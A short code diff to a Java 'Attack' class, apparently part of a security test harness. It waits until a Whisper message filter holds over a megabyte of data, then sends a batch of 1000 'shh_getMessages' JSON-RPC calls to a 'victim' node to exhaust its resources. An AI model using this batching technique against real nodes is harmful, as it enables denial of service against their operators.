@@ -399,6 +399,13 @@ public final class Attack {
       String call =
           "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"shh_getMessages\",\"params\":[\"" + id + "\"]}";
       String batch = "[" + (call + ",").repeat(999) + call + "]";
+      // An answer to the batch that was asked before the envelopes had come would be a short one.
+      while (victim.call("shh_getMessages", "[\"" + id + "\"]").length() < 1 << 20) {
+        if (System.nanoTime() > until) {
+          throw new Complaint("the envelopes have not come to the filter");
+        }
+        Thread.sleep(50);
+      }
       long bytes = 0;
       try (SocketChannel channel = ipc(victim)) {
         channel.write(utf8(batch));
